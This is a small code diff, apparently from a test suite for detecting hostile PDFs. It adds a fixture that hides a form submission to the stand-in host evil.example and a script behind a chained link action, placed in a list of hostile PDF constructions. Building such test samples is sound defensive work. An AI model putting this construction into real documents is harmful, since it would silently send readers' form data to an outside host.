@@ -84,9 +84,15 @@ def submitting(document):
     annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
 
 
+def submitting_as_one_of_several(document):
+    several = Array([Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")), script(document)])
+    page = Array([document.pages[0].obj, Name.Fit])
+    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=page, Next=several))
+
+
 HOSTILE = [
     on_opening, in_the_name_tree, on_page_events, launching, attached, attached_to_an_annotation, rich_media,
-    form_with_script, hidden_in_next, script_behind_a_javascript_address, submitting,
+    form_with_script, hidden_in_next, script_behind_a_javascript_address, submitting, submitting_as_one_of_several,
 ]  # fmt: skip
 
 
